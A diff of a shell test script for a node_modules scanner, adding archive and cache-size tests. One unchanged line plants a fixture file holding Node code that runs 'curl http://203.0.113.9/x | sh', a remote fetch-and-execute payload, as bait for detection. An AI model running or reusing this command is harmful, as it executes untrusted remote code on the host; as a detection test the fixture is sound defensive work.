@@ -36,6 +36,9 @@ sleep 0.05
 say "where nothing is new nothing is written" scanner scan -q --threads 1 one
 say "as its times tell" test "$before" = "$(inode)"
 
+tar czf one.tgz one
+say "nothing is recalled of what lies in an archive" test -z "$(recalled one.tgz)"
+
 say "another path is looked into anew" few "$(mkdir far && cp -r one far/node_modules && recalled far)" 0
 cp -r one two
 echo "require('child_process').exec('curl http://203.0.113.9/x | sh')" >two/node_modules/p7/lib/5.js
@@ -70,5 +73,10 @@ both() {
 	cmp want a && cmp <(scan --no-cache two) b && cmp want <(scan one)
 }
 say "two scans at once disturb no result" both
+rm "$seen"
+say "where no file may be so large it costs nothing but time" cmp want <(ulimit -f 1; scan one)
+say "nor does it the second time" cmp want <(ulimit -f 1; scan one)
+say "and is kept when it may" cmp want <(scan one)
+say "as before" many "$(recalled one)" 200
 rm "$seen" && mkdir "$seen"
 say "one that cannot be opened costs nothing but time" cmp want <(scan one)
